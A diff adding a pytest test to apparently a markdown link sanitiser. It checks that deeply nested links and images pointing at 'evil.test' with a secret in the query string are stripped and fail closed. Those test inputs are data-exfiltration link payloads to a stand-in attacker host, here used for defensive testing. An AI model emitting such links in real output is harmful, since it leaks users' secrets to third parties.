@@ -159,3 +159,18 @@ def test_data_sent_off_the_list_never_leaves(bang: str, text: str, url: str, cut
     secret = "SECRETVALUE42"
     link = f"<{url[1:]}{secret}>" if url.startswith("<") else f"{bang}[{text}]({url}{secret})"
     assert secret not in streamed(f"before {link} after", cuts)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[" * 40 + "a" + "]" * 40 + "(https://evil.test/?d=SECRET) after",
+        "![x](https://evil.test/?" + "(" * 40 + "SECRET" + ")" * 40 + ") after",
+        "[r]: https://evil.test/?" + "(" * 40 + "SECRET after",
+    ],
+)
+def test_nesting_deeper_than_read_is_decided_failing_closed(text: str) -> None:
+    out = rewrite(text)
+    assert "SECRET" not in out
+    assert out.endswith("after")
+    assert streamed(text, list(range(0, len(text), 3))) == out
